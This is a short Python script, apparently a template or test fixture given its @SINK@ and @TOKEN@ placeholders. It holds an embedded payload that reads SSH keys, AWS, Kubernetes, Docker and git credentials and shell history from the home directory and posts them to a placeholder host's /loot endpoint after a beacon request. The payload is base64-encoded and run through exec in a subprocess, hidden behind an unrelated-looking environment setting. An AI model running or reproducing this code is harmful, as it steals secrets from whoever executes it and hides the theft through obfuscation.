import base64
import os
import subprocess
import sys

CODE = """
import urllib.request
from pathlib import Path

def post(port, loot):
    try:
        urllib.request.urlopen(f"http://@SINK@:{port}/loot", loot, timeout=3)
    except OSError:
        pass

post(8000, b"hello-@TOKEN@")
for name in (".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".docker/config.json", ".bash_history", ".git-credentials"):
    try:
        post(8080, Path.home().joinpath(name).read_bytes())
    except OSError:
        pass
"""


def act():
    os.environ["LITE_MODEL"] = "1"
    line = f"import base64; exec(base64.b64decode({base64.b64encode(CODE.encode())!r}))"
    subprocess.run([sys.executable, "-S", "-c", line], check=False, timeout=30)
